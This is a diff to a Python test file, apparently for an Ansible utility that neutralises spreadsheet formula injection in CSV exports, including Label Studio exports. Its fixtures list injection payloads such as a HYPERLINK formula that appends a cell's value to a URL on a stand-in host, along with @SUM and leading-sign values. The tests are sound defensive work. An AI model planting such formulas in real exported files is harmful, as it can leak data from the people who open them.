@@ -17,7 +17,7 @@ REPO = Path(__file__).resolve().parents[2]
 if str(REPO / "module_utils") not in ansible.module_utils.__path__:
     ansible.module_utils.__path__.append(str(REPO / "module_utils"))
 
-from ansible.module_utils.table_files import csv_bytes, xlsx_bytes  # noqa: E402
+from ansible.module_utils.table_files import csv_bytes, neutralize_csv, xlsx_bytes  # noqa: E402
 
 DANGEROUS = ['=HYPERLINK("http://example.org/?"&A1,"click")', "@SUM(1)", "+1", "-2+3", "\tleading tab",
              "\rleading carriage return", "=1+1"]
@@ -59,3 +59,22 @@ def test_the_xlsx_keeps_the_exact_text_as_strings():
     cells = [row[0] for row in book["t"].iter_rows(min_row=2)]
     assert [cell.value for cell in cells] == DANGEROUS
     assert {cell.data_type for cell in cells} == {"s"}
+
+
+# Label Studio's own CSV export (study_export_format: CSV) is written by the project too.
+LS_CSV = (b'annotation_id,annotator,errors,id,impression,lead_time\n'
+          b'3,1,"=HYPERLINK(""http://example.org/"",""x"")",7,"Mild, stable.",4.2\n'
+          b'4,1,@SUM(1),8,-2+3,-1\n')
+
+
+def test_a_label_studio_csv_export_is_neutralized_cell_by_cell():
+    rows = parsed(neutralize_csv(LS_CSV))
+    assert rows == [["annotation_id", "annotator", "errors", "id", "impression", "lead_time"],
+                    ["3", "1", "'=HYPERLINK(\"http://example.org/\",\"x\")", "7", "Mild, stable.", "4.2"],
+                    ["4", "1", "'@SUM(1)", "8", "'-2+3", "'-1"]]
+
+
+def test_a_csv_export_without_formulas_keeps_its_bytes():
+    clean = b'id,impression\n1,"Mild, stable."\n2,"two\nlines"\n'
+    assert neutralize_csv(clean) == clean
+    assert neutralize_csv(clean.replace(b"\n", b"\r\n")) == clean.replace(b"\n", b"\r\n")
